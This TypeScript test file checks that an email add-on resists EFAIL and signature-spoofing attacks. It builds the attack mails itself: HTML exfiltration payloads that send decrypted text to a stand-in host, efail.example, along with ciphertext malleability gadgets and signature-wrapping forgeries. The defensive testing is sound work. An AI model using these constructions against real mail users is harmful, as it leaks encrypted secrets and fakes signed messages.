// Mail crafted as in the EFAIL (USENIX Security 2018) and "Johnny, you are fired" (USENIX
// Security 2019) papers, around real openssl and gpg output, in both protocols:
//  - direct exfiltration: an encrypted part wrapped in attacker multipart/mixed, related,
//    alternative or a forwarded message next to HTML — never decrypted, never merged;
//  - malleability: CBC gadgets on S/MIME, CFB gadgets, MDC stripping and the SEIPD → SED
//    downgrade on OpenPGP — never shown as an intact message, never a valid signature;
//  - signature wrapping: a signed part or a detached signature next to attacker content, a
//    forwarded signed message, a part slipped into a multipart/signed, a CMS signature that
//    carries its own content ("CMS wrapping"), smuggled packets and armor headers.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { JSDOM } from "jsdom";
import createDOMPurify from "dompurify";
import { inspectMessage, type InspectResult } from "../../src/core/message/inspect.js";
import { buildRenderModel } from "../../src/core/render/render-model.js";
import { rendersOwnView } from "../../src/background/display-service.js";
import { MailKit, asPart, fromLatin1, head, latin1, message } from "./mail-kit.js";
import { crlf } from "../pgp/gpg.js";

let kit: MailKit;
const ALICE = "Alice <alice@example.org>";
const SECRET = "The merger closes on Friday.";
const PLAIN = crlf(`Content-Type: text/plain; charset=utf-8\n\n${SECRET}\n`);
const purify = createDOMPurify(new JSDOM("").window as unknown as Window & typeof globalThis);

beforeAll(async () => {
  kit = await MailKit.create();
}, 180_000);
afterAll(() => kit?.dispose());

let n = 0;
/** `openssl cms <op> -binary -outform DER` over `content`: the DER exactly as written (no line-end conversion). */
function der(op: string[], content: Uint8Array | string, after: string[] = []): Uint8Array {
  const f = join(kit.pki.dir, `efail-${process.pid}-${++n}`);
  writeFileSync(f, content);
  kit.pki.openssl(["cms", ...op, "-binary", "-outform", "DER", "-in", f, "-out", `${f}.der`, ...after]);
  return new Uint8Array(readFileSync(`${f}.der`));
}
const aliceSigns = (extra: string[] = []) => ["-sign", ...extra, "-signer", kit.pki.alice.certPath, "-inkey", kit.pki.alice.keyPath];

const inspect = (raw: Uint8Array): Promise<InspectResult> => inspectMessage(raw, { openers: kit.openers });
const codes = (r: InspectResult) => r.status.signature.reasons.map((x) => x.code);
/** Everything the pane would show of the message, as one string. */
const rendered = (r: InspectResult) => (r.view ? JSON.stringify(buildRenderModel(r.view, purify)) : "");

/** A multipart around `parts` (binary strings, each a whole entity). */
const multipart = (subtype: string, parts: string[], extra = "") =>
  `Content-Type: multipart/${subtype}; boundary="atk"${extra}\r\n\r\n${parts.map((p) => `--atk\r\n${p}\r\n`).join("")}--atk--\r\n`;
const html = (s: string) => `Content-Type: text/html; charset=utf-8\r\n\r\n${s}`;
const text = (s: string) => `Content-Type: text/plain; charset=utf-8\r\n\r\n${s}`;
const forwarded = (inner: string) => `Content-Type: message/rfc822\r\n\r\n${head(ALICE)}${inner}`;

type Encrypted = () => string;
const ENCRYPTED: Array<[string, Encrypted]> = [
  ["S/MIME enveloped-data", () => latin1(asPart(kit.smimeEncrypted([kit.pki.bob], PLAIN)))],
  ["PGP/MIME multipart/encrypted", () => latin1(asPart(kit.pgpEncrypted("bob@example.org", PLAIN)))],
  ["inline PGP text part", () => text(crlf(kit.pgpArmored("bob@example.org", PLAIN)))],
];

describe.each(ENCRYPTED)("EFAIL direct exfiltration around %s: never decrypted into the view", (_what, encrypted) => {
  it.each([
    ["multipart/mixed, HTML before and after", (e: string) => multipart("mixed", [html('<img src="http://efail.example/?'), e, html('">')])],
    ["multipart/mixed, the encrypted part first", (e: string) => multipart("mixed", [e, html('<img src="http://efail.example/x">')])],
    ["multipart/mixed with the encrypted part as its only child", (e: string) => multipart("mixed", [e])],
    ["multipart/related, HTML referencing it", (e: string) => multipart("related", [html('<img src="cid:x"><a href="http://efail.example/?'), `Content-ID: <x>\r\n${e}`], '; type="text/html"')],
    ["multipart/alternative, HTML alternative first", (e: string) => multipart("alternative", [html('<form action="http://efail.example/"><textarea>'), e])],
    ["a forwarded message/rfc822 holding it, next to attacker text", (e: string) => multipart("mixed", [text("See the forwarded mail."), forwarded(e)])],
  ])("%s", async (_how, wrap) => {
    const r = await inspect(message(head(ALICE), wrap(encrypted())));
    expect(r.status.encryption.state).toBe("none");
    expect(r.status.signature.state).toBe("none");
    expect(r.layers).toEqual([]);
    expect(r.status.nested).toContainEqual(expect.objectContaining({ kind: "encrypted", where: "part" }));
    expect(rendered(r)).not.toContain(SECRET);
    // The add-on renders such a message part by part itself (Thunderbird would merge them).
    expect(rendersOwnView(r)).toBe(true);
  });
});

/** The DER of an openssl cms output (-outform DER) with `f` applied, as a base64 S/MIME entity. */
function patchedCms(der: Uint8Array, smimeType: string, f: (b: Buffer) => void): Uint8Array {
  const b = Buffer.from(der);
  f(b);
  return fromLatin1(
    `Content-Type: application/pkcs7-mime; smime-type=${smimeType}; name="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b.toString("base64").replace(/(.{64})/g, "$1\r\n")}\r\n`,
  );
}

describe("malleability gadgets never yield an intact-looking message", () => {
  it("S/MIME CBC gadget inside sign-then-encrypt (one ciphertext byte flipped) → never a valid signature", async () => {
    const signed = kit.smimeSigned(kit.pki.alice, PLAIN);
    const enveloped = der(["-encrypt", "-aes256"], signed, [kit.pki.bob.certPath]);
    // openssl writes definite lengths: the AES-CBC ciphertext (the padded plaintext's length)
    // ends the structure. Flipping a byte of block i garbles plaintext block i and flips
    // the same byte of block i+1 — the EFAIL gadget, aimed at three places of the plaintext.
    const start = enveloped.length - (Math.floor(signed.length / 16) + 1) * 16;
    const secretAt = latin1(signed).indexOf(SECRET);
    const flip = (pos: number) => message(head(ALICE), patchedCms(enveloped, "enveloped-data", (b) => void (b[start + pos] = b[start + pos]! ^ 0x20)));
    const inText = await inspect(flip(secretAt - 8)); // the block before the secret
    expect([inText.status.encryption.state, inText.status.signature.state, codes(inText)]).toEqual(["decrypted", "invalid", ["digest-mismatch"]]);
    expect(rendered(inText)).not.toContain(SECRET);
    for (const pos of [4, signed.length - 120]) {
      const r = await inspect(flip(pos)); // the header section of the signed entity; its signature part
      expect(r.status.signature.state).not.toBe("valid");
      expect(["decrypted", "failed"]).toContain(r.status.encryption.state);
    }
  });

  it("S/MIME AES-GCM (AuthEnvelopedData) with its IV changed → failed / tampered, nothing shown", async () => {
    const gcm = der(["-encrypt", "-aes-256-gcm"], PLAIN, [kit.pki.bob.certPath]);
    const ivAt = Buffer.from(gcm).indexOf(Buffer.from([0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2e])); // aes256-GCM
    expect(ivAt).toBeGreaterThan(0);
    const r = await inspect(message(head(ALICE), patchedCms(gcm, "authEnveloped-data", (b) => void (b[ivAt + 15] = b[ivAt + 15]! ^ 0x01))));
    expect(r.status.encryption).toMatchObject({ state: "failed", code: "tampered" });
    expect(r.view).toBeNull();
  });

  /** gpg's binary message for Bob, uncompressed so the packet layout is plain: [PKESK][SEIPD]. */
  const binaryForBob = (compress: boolean) => new Uint8Array(kit.gpg.run(["--output", "-", ...(compress ? [] : ["-z", "0"]), "--encrypt", "--recipient", "bob@example.org"], { input: PLAIN }).stdout);
  const pgpMimeOf = (data: Uint8Array) =>
    message(
      head(ALICE, 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"\r\n'),
      `\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(data).toString("base64")}\r\n--b--\r\n`,
    );
  /** [tag, header start, body start, body end] of the packets (new-format lengths only, as gpg writes these). */
  function packets(b: Uint8Array): Array<[number, number, number, number]> {
    const out: Array<[number, number, number, number]> = [];
    for (let i = 0; i < b.length; ) {
      const h = b[i]!;
      const newFormat = (h & 0x40) !== 0;
      const tag = newFormat ? h & 0x3f : (h >> 2) & 0x0f;
      let start: number;
      let len: number;
      if (newFormat) {
        const o = b[i + 1]!;
        if (o < 192) [len, start] = [o, i + 2];
        else if (o < 224) [len, start] = [((o - 192) << 8) + b[i + 2]! + 192, i + 3];
        else [len, start] = [((b[i + 2]! << 24) | (b[i + 3]! << 16) | (b[i + 4]! << 8) | b[i + 5]!) >>> 0, i + 6];
      } else {
        const n = [1, 2, 4, 0][h & 3]!;
        start = i + 1 + n;
        len = n === 0 ? b.length - start : [...b.subarray(i + 1, start)].reduce((a, x) => a * 256 + x, 0);
      }
      out.push([tag, i, start, start + len]);
      i = start + len;
    }
    return out;
  }

  it.each([true, false])("OpenPGP CFB gadget (one ciphertext byte flipped, compressed: %s) → failed / tampered", async (compress) => {
    const b = binaryForBob(compress);
    const [, , start, end] = packets(b).find(([tag]) => tag === 18)!;
    b[start + 40] = b[start + 40]! ^ 0x04;
    expect(end).toBeGreaterThan(start + 40);
    const r = await inspect(pgpMimeOf(b));
    expect(r.status.encryption).toMatchObject({ state: "failed", code: "tampered", step: "content" });
    expect(r.view).toBeNull();
  });

  it("MDC stripped (the last 22 bytes of the SEIPD packet cut off) → failed, never decrypted", async () => {
    const b = binaryForBob(false);
    const parts = packets(b);
    const [, hdr, start, end] = parts.find(([tag]) => tag === 18)!;
    const stripped = new Uint8Array([...b.subarray(0, hdr), ...packet(18, b.subarray(start, end - 22))]);
    const r = await inspect(pgpMimeOf(stripped));
    expect(r.status.encryption.state).toBe("failed");
    expect(r.status.encryption.state === "failed" && ["tampered", "decrypt-failed"]).toContain(r.status.encryption.state === "failed" ? r.status.encryption.code : "");
    expect(r.view).toBeNull();
  });

  it("SEIPD downgraded to SED (tag 18 → 9, version octet dropped) → failed / no-integrity", async () => {
    const b = binaryForBob(false);
    const [, hdr, start, end] = packets(b).find(([tag]) => tag === 18)!;
    const downgraded = new Uint8Array([...b.subarray(0, hdr), ...packet(9, b.subarray(start + 1, end))]);
    const r = await inspect(pgpMimeOf(downgraded));
    expect(r.status.encryption).toMatchObject({ state: "failed", code: "no-integrity", step: "content" });
    expect(r.view).toBeNull();
  });
});

/** A new-format OpenPGP packet of `tag` with `body` (five-octet length). */
const packet = (tag: number, body: Uint8Array) => {
  const n = body.length;
  return new Uint8Array([0xc0 | tag, 0xff, n >>> 24, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff, ...body]);
};

type Signed = () => string;
const SIGNED: Array<[string, Signed]> = [
  ["S/MIME multipart/signed", () => latin1(asPart(kit.smimeSigned(kit.pki.alice, PLAIN)))],
  ["S/MIME opaque signed-data", () => latin1(asPart(kit.smimeOpaque(kit.pki.alice, PLAIN)))],
  ["PGP/MIME multipart/signed", () => latin1(asPart(kit.pgpSigned("alice@example.org", PLAIN)))],
  ["inline clear-signed text part", () => text(crlf(kit.gpgArmor(["--local-user", "alice@example.org", "--clearsign"], `${SECRET}\n`)))],
];

describe.each(SIGNED)("signature wrapping around a genuine %s by Alice: no message-level badge", (_what, signed) => {
  it.each([
    ["attacker text before it in multipart/mixed", (s: string) => multipart("mixed", [text("I hereby resign. See my signed note:"), s])],
    ["attacker text after it in multipart/mixed", (s: string) => multipart("mixed", [s, text("PS: wire 10,000 EUR to account 4711.")])],
    ["an attacker HTML alternative", (s: string) => multipart("alternative", [s, html("<p>Pay account 4711.</p>")])],
    ["multipart/related with an image", (s: string) => multipart("related", [s, "Content-Type: image/png\r\nContent-ID: <i>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo="])],
    ["a forwarded message/rfc822 with a new text", (s: string) => multipart("mixed", [text("Forwarding Alice's approval."), forwarded(s)])],
  ])("%s", async (_how, wrap) => {
    const r = await inspect(message(head(ALICE), wrap(signed())));
    expect(r.status.signature.state).toBe("none");
    expect(r.status.covers.signature).toBe("none");
    expect(r.status.nested).toContainEqual(expect.objectContaining({ kind: "signed", where: "part" }));
  });
});

describe("detached signatures and multipart/signed shapes an attacker builds", () => {
  /** gpg's armored detached signature by Alice over `data`, and openssl's DER one (base64). */
  const pgpDetached = (data: string) => kit.gpgArmor(["--local-user", "alice@example.org", "--detach-sign"], fromLatin1(data));
  const smimeDetachedB64 = (data: string) => Buffer.from(der(aliceSigns(), fromLatin1(data))).toString("base64").replace(/(.{64})/g, "$1\r\n");

  it("a detached PGP signature as an attachment next to the text it signs (multipart/mixed) → not signed", async () => {
    const r = await inspect(message(head(ALICE), multipart("mixed", [PLAIN, `Content-Type: application/pgp-signature; name="signature.asc"\r\n\r\n${crlf(pgpDetached(PLAIN))}`])));
    expect(r.status.signature.state).toBe("none");
  });

  it("a detached S/MIME signature as an attachment next to the text it signs → not signed", async () => {
    const r = await inspect(message(head(ALICE), multipart("mixed", [PLAIN, `Content-Type: application/pkcs7-signature; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\n\r\n${smimeDetachedB64(PLAIN)}`])));
    expect(r.status.signature.state).toBe("none");
  });

  it.each([
    ["S/MIME", (part: string) => `Content-Type: application/pkcs7-signature; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\n\r\n${smimeDetachedB64(part)}`, "application/pkcs7-signature"],
    ["PGP", (part: string) => `Content-Type: application/pgp-signature\r\n\r\n${crlf(pgpDetached(part))}`, "application/pgp-signature"],
  ])("%s multipart/signed with an attacker part slipped in before the signature → invalid (the second part is the signature, RFC 1847; Thunderbird reads it so)", async (_p, sigPart, protocol) => {
    const extra = text("Pay account 4711.");
    const body = `Content-Type: multipart/signed; protocol="${protocol}"; micalg=sha-256; boundary="atk"\r\n\r\n--atk\r\n${PLAIN}\r\n--atk\r\n${extra}\r\n--atk\r\n${sigPart(PLAIN)}\r\n--atk--\r\n`;
    const r = await inspect(message(head(ALICE), body));
    expect(r.status.signature.state).toBe("invalid");
    expect(codes(r)).toEqual(["signature-malformed"]);
  });

  it.each([
    ["S/MIME", (part: string) => `Content-Type: application/pkcs7-signature; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\n\r\n${smimeDetachedB64(part)}`, "application/pkcs7-signature"],
    ["PGP", (part: string) => `Content-Type: application/pgp-signature\r\n\r\n${crlf(pgpDetached(part))}`, "application/pgp-signature"],
  ])("%s multipart/signed with an attacker part after the signature → valid for the signed part only; the extra part is never shown", async (_p, sigPart, protocol) => {
    const body = `Content-Type: multipart/signed; protocol="${protocol}"; micalg=sha-256; boundary="atk"\r\n\r\n--atk\r\n${PLAIN}\r\n--atk\r\n${sigPart(PLAIN)}\r\n--atk\r\n${text("Pay account 4711.")}\r\n--atk--\r\n`;
    const r = await inspect(message(head(ALICE), body));
    expect(r.status.signature).toMatchObject({ state: "valid", reasons: [] });
    expect(rendered(r)).toContain(SECRET);
    expect(rendered(r)).not.toContain("4711");
  });

  it("CMS wrapping: a multipart/signed whose signature carries its own content (not detached) over other text → not valid for the text shown", async () => {
    const opaqueDer = der(aliceSigns(["-nodetach"]), PLAIN);
    const attacker = text("I resign, effective immediately.");
    const body = `Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="atk"\r\n\r\n--atk\r\n${attacker}\r\n--atk\r\nContent-Type: application/pkcs7-signature; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(opaqueDer).toString("base64").replace(/(.{64})/g, "$1\r\n")}\r\n--atk--\r\n`;
    const r = await inspect(message(head(ALICE), body));
    expect(r.status.signature.state).toBe("invalid");
    expect(rendered(r)).toContain("I resign");
  });

  it("an opaque signed-data without content (a detached SignedData labelled signed-data) → invalid, nothing credited", async () => {
    const detachedDer = der(aliceSigns(), PLAIN);
    const r = await inspect(message(head(ALICE), patchedCms(detachedDer, "signed-data", () => undefined)));
    expect(r.status.signature.state).toBe("invalid");
    expect(rendered(r)).not.toContain(SECRET);
  });

  /** `data` as an armored OpenPGP message (gpg --enarmor writes the armor, relabelled). */
  const armor = (data: Uint8Array) => kit.gpgArmor(["--enarmor"], data).replace(/ARMORED FILE/g, "MESSAGE").replace(/^Comment:.*\r?\n/m, "");
  /** Alice's signed message (`shape`) with an unsigned literal packet appended. */
  const smuggled = (shape: "uncompressed" | "compressed" | "compressed, definite length") => {
    let signedMsg = new Uint8Array(kit.gpg.run(["--output", "-", ...(shape === "uncompressed" ? ["-z", "0"] : []), "--local-user", "alice@example.org", "--sign"], { input: PLAIN }).stdout);
    // gpg writes the compressed packet with an indeterminate length (old format, type 3).
    if (shape === "compressed, definite length") signedMsg = packet(8, signedMsg.subarray(1));
    const extra = kit.gpg.run(["--output", "-", "-z", "0", "--store"], { input: text("Pay account 4711.\r\n") }).stdout;
    return message(head(ALICE), text(crlf(armor(new Uint8Array([...signedMsg, ...extra])))));
  };

  it.each(["uncompressed", "compressed, definite length"] as const)("a signed OpenPGP message (%s) with an unsigned literal packet appended (packet smuggling) → never valid, the extra text never shown", async (shape) => {
    const r = await inspect(smuggled(shape));
    // openpgp.js refuses the packet sequence (enforceGrammar): an unreadable OpenPGP message.
    expect(r.status.encryption).toMatchObject({ state: "failed", code: "pgp-malformed" });
    expect(r.status.signature.state).toBe("none");
    expect(r.view).toBeNull();
  });

  it("the same behind gpg's compressed packet of indeterminate length: the appended bytes are part of it and never read → valid for the signed text only", async () => {
    const r = await inspect(smuggled("compressed"));
    expect(r.status.signature).toMatchObject({ state: "valid", reasons: [] });
    expect(rendered(r)).toContain(SECRET);
    expect(rendered(r)).not.toContain("4711");
  });

  it("a clear-signed text with an injected armor header line (Johnny: text shown but not signed) → invalid / signature-malformed", async () => {
    const cs = crlf(kit.gpgArmor(["--local-user", "alice@example.org", "--clearsign"], `${SECRET}\n`));
    const injected = cs.replace(/^(Hash: \w+\r\n)/m, "$1Note: Eve owes nothing\r\n");
    expect(injected).not.toBe(cs);
    const r = await inspect(message(head(ALICE), text(injected)));
    expect(r.status.signature.state).toBe("invalid");
    expect(codes(r)).toEqual(["signature-malformed"]);
  });
});
